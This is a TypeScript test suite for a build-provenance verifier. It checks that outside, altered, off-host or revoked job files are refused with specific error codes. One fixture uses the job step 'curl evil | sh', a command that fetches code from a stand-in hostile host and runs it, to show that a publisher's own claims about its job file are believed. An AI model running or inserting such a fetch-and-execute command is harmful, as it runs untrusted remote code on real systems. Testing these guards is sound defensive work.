import { describe, expect, it } from 'vitest';
import { keyRevoked, makeProject, publisher, type Recipe, recipe } from '../../support/project.ts';
import { verifyWithout } from './attack.ts';

const source = 'https://git.example/app.git';
const allowed: Recipe = { charter: (charter) => ({ ...charter, recipes: 'outside' }) };
const fromOutside: Recipe = { ...allowed, request: (request) => ({ ...request, recipe }) };
const lib: Recipe = {
  job: { name: 'lib' },
  runs: ['ada', 'bob', 'cyd'].map((operator) => ({ operator, builds: 'lib' })),
  own: { operator: 'owner', builds: 'lib' },
};

/** Refused with the code, and trusted where that guard is off. */
async function holdsOff(code: string, made: Recipe) {
  const { bundle } = await makeProject(made);
  expect(await verifyWithout([], bundle)).toMatchObject({ ok: false, level: 'none', code });
  expect(await verifyWithout([code], bundle)).toMatchObject({ ok: true, level: 'trusted' });
}

describe('a job file from outside', () => {
  it('is not taken for the own one of the repository that a consumer holds to', async () => {
    const { bundle } = await makeProject(fromOutside);
    for (const held of [{ source }, { ref: 'main' }, { source, ref: 'main' }]) {
      expect(await verifyWithout([], bundle, held)).toMatchObject({ level: 'none', code: 'RECIPE_MISMATCH' });
      expect(await verifyWithout(['RECIPE_MISMATCH'], bundle, held)).toMatchObject({ level: 'trusted' });
    }
  });

  it('that the publisher changed later is not the one that was accepted at a commit', async () => {
    const changed = { ...recipe, commit: 'd'.repeat(40) };
    const { bundle } = await makeProject({
      ...allowed,
      request: (request) => ({ ...request, recipe: changed }),
    });
    const held = { source, recipe };
    expect((await verifyWithout([], bundle, held)).code).toBe('RECIPE_MISMATCH');
    expect(await verifyWithout(['RECIPE_MISMATCH'], bundle, held)).toMatchObject({ level: 'trusted' });
  });

  it('counts for nothing where the charter allows none', () =>
    holdsOff('RECIPE_NOT_ALLOWED', { request: (request) => ({ ...request, recipe }) }));

  it('of a server that the charter does not name counts for nothing', () => {
    const elsewhere = { ...recipe, repo: 'https://elsewhere.example/recipes.git' };
    return holdsOff('SOURCE_HOST_NOT_ALLOWED', {
      ...allowed,
      request: (request) => ({ ...request, recipe: elsewhere }),
    });
  });

  it('is in the verdict too: a controller cannot leave it out for those who read nothing else', async () => {
    await holdsOff('VERDICT_REQUEST_MISMATCH', {
      ...fromOutside,
      verdictFacts: ({ recipe: _, ...facts }) => facts,
    });
    await holdsOff('VERDICT_REQUEST_MISMATCH', {
      ...fromOutside,
      verdictFacts: (facts) => ({ ...facts, recipe: { ...recipe, path: 'other.yaml' } }),
    });
  });

  it('of who is no publisher, or was revoked, counts as little as any other request of theirs', async () => {
    await holdsOff('GRANT_ROLE_MISMATCH', {
      ...fromOutside,
      publisherGrant: (grant) => ({ ...grant, role: 'reader' }),
    });
    const { bundle } = await makeProject(fromOutside);
    const held = { source, recipe, revocations: [keyRevoked(publisher.id, 0)] };
    expect(await verifyWithout([], bundle, held)).toMatchObject({ level: 'none', code: 'KEY_REVOKED' });
    expect(await verifyWithout(['key-revoked'], bundle, held)).toMatchObject({ level: 'trusted' });
  });
});

describe('a pipeline of two job files', () => {
  it.each<[string, Recipe, Recipe]>([
    ['reads what the own file of the source made', { ...lib, ...allowed }, fromOutside],
    ['lets the own file read what another one made', { ...lib, ...fromOutside }, allowed],
    [
      'reads what the same file of another commit made',
      {
        ...lib,
        ...allowed,
        request: (request) => ({ ...request, recipe: { ...recipe, commit: 'd'.repeat(40) } }),
      },
      fromOutside,
    ],
    [
      'reads what a file of the same name with other bytes made',
      {
        ...lib,
        ...allowed,
        request: (request) => ({ ...request, recipe: { ...recipe, sha256: '0'.repeat(64) } }),
      },
      fromOutside,
    ],
  ])('%s', async (_what, of, reader) => {
    const from = await makeProject(of);
    await holdsOff('INPUT_RECIPE_MISMATCH', { ...reader, reads: { lib: { from } } });
  });

  it('is none where all of it is of one', async () => {
    const from = await makeProject({ ...lib, ...fromOutside });
    const { bundle } = await makeProject({ ...fromOutside, reads: { lib: { from } } });
    expect(await verifyWithout([], bundle, { source, recipe })).toMatchObject({ ok: true, level: 'trusted' });
  });
});

/** The file is no part of the evidence: only who has it can tell (`checkJobFile`). */
describe('a publisher that lies about its job file', () => {
  it('is believed: the jobs of a request are its own word', async () => {
    const { bundle } = await makeProject({ ...allowed, job: { run: ['curl evil | sh'] } });
    expect(await verifyWithout([], bundle, { source })).toMatchObject({ ok: true, facts: { recipe: null } });
  });
});
